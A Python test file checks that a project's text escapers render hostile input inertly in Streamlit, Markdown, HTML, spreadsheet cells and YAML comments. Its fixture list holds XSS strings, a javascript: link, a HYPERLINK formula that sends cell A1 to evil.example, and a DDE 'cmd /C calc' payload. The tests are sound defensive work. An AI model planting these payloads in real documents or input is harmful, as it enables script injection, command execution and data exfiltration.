"""Every escaper (src/policybench/present/text.py), one table of hostile text through each output:
Streamlit Markdown, Streamlit widget labels, Markdown files, HTML, spreadsheet cells and YAML
comment lines. Each output must show the text faithfully and let none of it act: no markup,
link, image, formula, directive, bare address or line that ends a comment."""

from __future__ import annotations

import html as html_module
import re
import string
import unicodedata
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as hs

from policybench.present import text

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)> <b>bold</b> &lt;b&gt; &amp;",
    "[x](javascript:alert(1)) ![img](http://x/y.png) [ref]: http://evil.example",
    "**bold** _it_ `code` ``more`` ~~gone~~",
    "# heading\n- list\n> quote\n1. one\n+ plus",
    ":red[colour] :material/home: :smile: :blue-badge[b]",
    "$\\frac{1}{2}$ and $$x$$",
    "| a | b |\n|---|---|",
    "http://example.com https://evil.example/track.png www.example.com a@b.co",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tstarts with a tab",
    "1) ordered",
    "Japan–ROK “2+2” talks (2018): fine.",
    # what a participant may type as a reason: bare addresses, a link, invisible formatting
    "see https://evil.example/x and www.evil.example, evil.com/x, a.b.co or mail@evil.com",
    "(https://evil.example/x) HTTPS://EVIL.EXAMPLE WWW.EVIL.EXAMPLE https://www.evil.example",
    "[a](b) [a]: b <https://evil.example> <mail@evil.example>",
    "Ai\u200bko \u202eevil\u202c \u2066isolated\u2069 \ufeffbom",
    # what would end or bend a YAML comment: line breaks of every kind, a NUL, "key: value"
    "one\r\ntwo\u2028three\x85four # not: a comment\x00 - item\x7f",
]

WJ = text.WORD_JOINER
#: Text in which every ASCII punctuation character is backslash-escaped.
INERT = re.compile(r"(?:\\[!-/:-@\[-`{-~]|[^!-/:-@\[-`{-~\\])*")
URL = re.compile(r"https?://|(?<![\\\w])www\.", re.IGNORECASE)


def unescape(escaped: str) -> str:
    return re.sub(r"\\(.)", r"\1", escaped)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)


def autolinks(rendered_text: str) -> list[str]:
    """The links remark-gfm's literal-autolink transform (what Streamlit's Markdown renderer
    runs on the text after parsing, escapes resolved) would make in ``rendered_text``: an
    ``http(s)://`` or ``www.`` address, or an e-mail address, preceded by the start,
    whitespace, punctuation or a symbol (JavaScript's ``\\w`` is ASCII only)."""

    def after_a_boundary(i: int) -> bool:
        return (
            i == 0
            or rendered_text[i - 1].isspace()
            or unicodedata.category(rendered_text[i - 1])[0] in "PS"
        )

    found = []
    for pattern in (
        re.compile(r"(?i)(https?://|www(?=\.))([-.A-Za-z0-9_]+)([^ \t\r\n]*)"),
        re.compile(r"([-.+A-Za-z0-9_]+)@([-A-Za-z0-9_]+(?:\.[-A-Za-z0-9_]+)+)"),
    ):
        pos = 0
        while (m := pattern.search(rendered_text, pos)) is not None:
            if after_a_boundary(m.start()) and "." in m.group(0):
                found.append(m.group(0))
                pos = m.end()
            else:
                pos = m.start() + 1  # as the transform does when it declines a match
    return found


def _streamlit(raw: str) -> None:
    out = text.streamlit_markdown(raw)
    assert INERT.fullmatch(out), out
    shown = unescape(out)
    assert "\n" not in out and shown.replace(WJ, "") == text.fold(raw).replace(WJ, "")
    assert not autolinks(shown), (autolinks(shown), out)


def _label(raw: str) -> None:
    out = text.widget_label(raw)
    live = re.sub(r"\\.", "", out)
    for token in ("<", "**", "`", "[", "]", ":", "$", "~", "@", "&", "#", "|", "www."):
        assert token not in live, (token, out)
    assert not re.match(r"^(\d+[.)]|[-+])", live)
    shown = unescape(out)
    assert "\n" not in out and shown.replace(WJ, "") == text.fold(raw).replace(WJ, "")
    # a label is Markdown too, linked after parsing like st.markdown (checked in a browser by
    # tests/browser/test_hostile_browser.py)
    assert not autolinks(shown), (autolinks(shown), out)


def _markdown_file(raw: str) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    pytest.importorskip("linkify_it")
    out = text.markdown(raw)
    # GitHub's flavour (tables, strikethrough) and a renderer that links bare domains too
    for renderer in (
        markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]),
        markdown_it.MarkdownIt("gfm-like"),
    ):
        parsed = _Tags()
        parsed.feed(renderer.render(out))
        assert set(parsed.tags) <= {"p"}, (parsed.tags, out)
    assert not URL.search(out.replace("\\:\\/\\/", "")), out
    assert "\n" not in out and unescape(out) == text.fold(raw)


def _html(raw: str) -> None:
    out = text.html(raw)
    parsed = _Tags()
    parsed.feed(f'<p>{out}</p><a title="{out}"></a>')
    assert parsed.tags == ["p", "a"], out
    assert "://" not in out and html_module.unescape(out) == raw


def _cell(raw: str) -> None:
    out = text.cell(raw)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert out.removeprefix("'") == raw
    assert (out != raw) == text.is_formula_like(raw)


def _yaml_comment(raw: str) -> None:
    out = text.comment_text(raw)
    # one line that YAML reads as a comment, wherever it stands: nothing of it becomes data
    assert len(out.splitlines()) == 1 or out == ""
    assert yaml.safe_load(f"a: 1  # {out}\n# {out}\nb: 2\n") == {"a": 1, "b": 2}
    invisible = {"Cc", "Cf", "Cs", "Cn"}
    assert not [c for c in out if unicodedata.category(c) in invisible], out
    # shown faithfully: each mark read back gives the folded text
    shown = re.sub(r"<U\+([0-9A-F]{4,6})>", lambda m: chr(int(m.group(1), 16)), out)
    assert shown == text.fold(raw)


OUTPUTS: dict[str, Callable[[str], None]] = {
    "streamlit markdown": _streamlit,
    "widget label": _label,
    "markdown file": _markdown_file,
    "html": _html,
    "spreadsheet cell": _cell,
    "yaml comment": _yaml_comment,
}


@pytest.mark.parametrize("raw", HOSTILE)
@pytest.mark.parametrize("output", list(OUTPUTS))
def test_every_output_shows_hostile_text_as_text(output: str, raw: str) -> None:
    OUTPUTS[output](raw)


@given(hs.text(alphabet=hs.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=200))
def test_streamlit_markdown_round_trips_any_text(raw: str) -> None:
    _streamlit(raw)


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("1. not a list", "1\\. not a list"),
        ("- not a list", "\\- not a list"),
        ("# not a heading", "\\# not a heading"),
        ("a|b", "a\\|b"),
        ("<b>x</b>", "\\<b\\>x\\</b\\>"),
        ("line\nbreak", "line break"),
        ("1.5 stays", "1.5 stays"),
        ("e.g. U.S. policy", "e.g. U.S. policy"),
        ("see www.x.org", "see www\\.x\\.org"),
        ("evil.com/x", "evil\\.com/x"),
    ],
)
def test_markdown_files_escape_only_what_markdown_reads(raw: str, escaped: str) -> None:
    assert text.markdown(raw) == escaped


#: What :func:`text.markdown` escapes, and what :func:`text.widget_label` escapes: each
#: character of each set must be escaped (a missed ``[`` lets ``[x](javascript:...)`` link).
MARKDOWN_SET = "\\`*_{}[]<>()#+!|~&$@"
LABEL_SET = "\\`*_[]<>~$:&@#|"


@pytest.mark.parametrize("c", list(MARKDOWN_SET))
def test_markdown_files_escape_each_character_of_their_set(c: str) -> None:
    assert text.markdown(f"a {c} b{c}c") == f"a \\{c} b\\{c}c"


@pytest.mark.parametrize("c", sorted(set(string.punctuation) - set(MARKDOWN_SET)))
def test_markdown_files_leave_other_punctuation_alone_inside_a_line(c: str) -> None:
    assert text.markdown(f"a {c} b") == f"a {c} b"


@pytest.mark.parametrize("c", list(LABEL_SET))
def test_labels_escape_each_character_of_their_set(c: str) -> None:
    joiner = WJ if c == "@" else ""  # and an e-mail's @ gets the joiner, as in st.markdown
    assert text.widget_label(f"a {c} b{c}c") == f"a {joiner}\\{c} b{joiner}\\{c}c"


@pytest.mark.parametrize("c", sorted(set(string.punctuation) - set(LABEL_SET)))
def test_labels_leave_other_punctuation_alone_inside_a_line(c: str) -> None:
    assert text.widget_label(f"a {c} b") == f"a {c} b"


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("[x](javascript:alert(1))", "\\[x\\]\\(javascript:alert\\(1\\)\\)"),
        (
            "![i](https://evil.example/i.png)",
            "\\!\\[i\\]\\(https\\:\\/\\/evil\\.example/i\\.png\\)",
        ),
        ("[ref]: x", "\\[ref\\]: x"),
        ("= heading underline", "\\= heading underline"),
        ("10) ordered", "10\\) ordered"),
        ("2025. a year", "2025\\. a year"),
        ("1234567890. too long to be a list", "1234567890. too long to be a list"),
        ("3.5 is a number", "3.5 is a number"),
        ("WWW.EVIL.EXAMPLE", "WWW\\.EVIL\\.EXAMPLE"),
        ("mailto:a@b.co", "mailto:a\\@b\\.co"),
    ],
)
def test_markdown_files_escape_links_lists_and_addresses_exactly(raw: str, escaped: str) -> None:
    assert text.markdown(raw) == escaped


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("[x](javascript:alert(1))", "\\[x\\](javascript\\:alert(1))"),
        (":red[colour]", "\\:red\\[colour\\]"),
        ("+ plus", "\\+ plus"),
        ("2+2 talks", "2+2 talks"),
        ("10) ordered", "10\\) ordered"),
        ("see www.evil.example", f"see {WJ}www\\.evil.example"),
        ("https://evil.example/x", f"{WJ}https\\://evil.example/x"),
        ("HTTP://EVIL.EXAMPLE", f"{WJ}HTTP\\://EVIL.EXAMPLE"),
        ("mail@evil.example", f"mail{WJ}\\@evil.example"),
        ("a\nb", "a b"),
    ],
)
def test_labels_escape_links_directives_and_list_starts_exactly(raw: str, escaped: str) -> None:
    assert text.widget_label(raw) == escaped


def test_html_escapes_exactly_the_characters_markup_reads() -> None:
    assert text.html("<a href='x' title=\"y\">&</a>") == (
        "&lt;a href=&#x27;x&#x27; title=&quot;y&quot;&gt;&amp;&lt;&#x2F;a&gt;"
    )
    assert text.html("[x](y) *b* 2+2 – ok") == "[x](y) *b* 2+2 – ok"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_cells_prefix_each_formula_start_and_only_at_the_start(start: str) -> None:
    assert text.is_formula_like(start + "x")
    assert text.cell(start + "SUM(1)") == "'" + start + "SUM(1)"
    assert text.cell("a" + start + "b") == "a" + start + "b"
    assert not text.is_formula_like(" " + start)


def test_labels_keep_ordinary_punctuation_for_screen_readers() -> None:
    assert text.widget_label("Risk of Chinese backlash (cost)") == "Risk of Chinese backlash (cost)"
    assert text.widget_label("US–Japan–ROK: 2+2, e.g.") == "US–Japan–ROK\\: 2+2, e.g."
    assert text.widget_label("- a") == "\\- a" and text.widget_label("1. a") == "1\\. a"


def test_streamlit_markdown_escapes_every_ascii_punctuation_and_nothing_else() -> None:
    assert text.streamlit_markdown("Japan–ROK “2+2” talks") == "Japan–ROK “2\\+2” talks"
    assert all(
        text.streamlit_markdown(c) == ("\\" + c if c != "@" else WJ + "\\@")
        for c in string.punctuation
    )


def test_streamlit_markdown_keeps_bare_addresses_from_becoming_links() -> None:
    """Escapes do not stop Streamlit's renderer, which links addresses in the text after
    parsing; an invisible word joiner before them does (checked in a browser by
    tests/browser/test_hostile_browser.py)."""
    raw = "see https://evil.example/x or www.evil.example, mail a@evil.example"
    assert autolinks(raw) == ["https://evil.example/x", "www.evil.example,", "a@evil.example"]
    out = text.streamlit_markdown(raw)
    assert out.count(WJ) == 3 and not autolinks(unescape(out))
    assert unescape(out).replace(WJ, "") == raw, "what a person reads is unchanged"


def test_yaml_comments_fold_lines_and_show_every_invisible_character() -> None:
    assert text.comment_text("a\nb\r\nc\u2028d\u2029e\x85f\tg") == "a b c d e f g"
    assert text.comment_text("# x: 'y' \"z\" - w") == "# x: 'y' \"z\" - w"
    assert text.comment_text("a\u202eb\u200bc\x00d\x7fe\ufeff") == (
        "a<U+202E>b<U+200B>c<U+0000>d<U+007F>e<U+FEFF>"
    )
    assert text.comment_text("Dokdo/Takeshima – “comfort women” 독도 竹島") == (
        "Dokdo/Takeshima – “comfort women” 독도 竹島"
    )


def test_cells_leave_numbers_alone() -> None:
    assert text.cell(-0.5) == -0.5 and text.cell(True) is True and text.cell("@x") == "'@x"


def test_fold_and_truncate_keep_text_on_one_bounded_line() -> None:
    assert text.fold("a\n\n b\tc") == "a b c"
    assert text.truncate("x" * 100, 10) == "x" * 9 + "…"
    assert text.truncate("short", 10) == "short"
    assert text.truncate("x" * 10, 10) == "x" * 10  # exactly the limit: kept whole
    assert text.truncate("abc defgh", 5) == "abc…"  # no space left before the ellipsis
    assert text.truncate("xyz", 1) == "x…"  # at least one character is kept
